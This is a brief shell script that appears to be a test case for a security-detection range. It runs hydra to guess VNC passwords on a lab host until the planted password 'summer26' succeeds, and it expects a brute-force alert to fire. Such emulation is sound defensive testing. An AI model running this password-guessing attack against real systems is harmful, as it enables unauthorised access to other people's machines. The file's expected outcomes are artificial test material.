# SPDX-License-Identifier: Apache-2.0
# what: passwords guessed at vnc, the last is right
# technique: T1110.001
# from: ws1
# to: lin1
# account: -
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
{ passwords 12; echo "summer26"; } >"$HOME/passwords"
says "password: summer26" timeout 100 hydra -I -P "$HOME/passwords" -t 1 -f vnc://$lin1
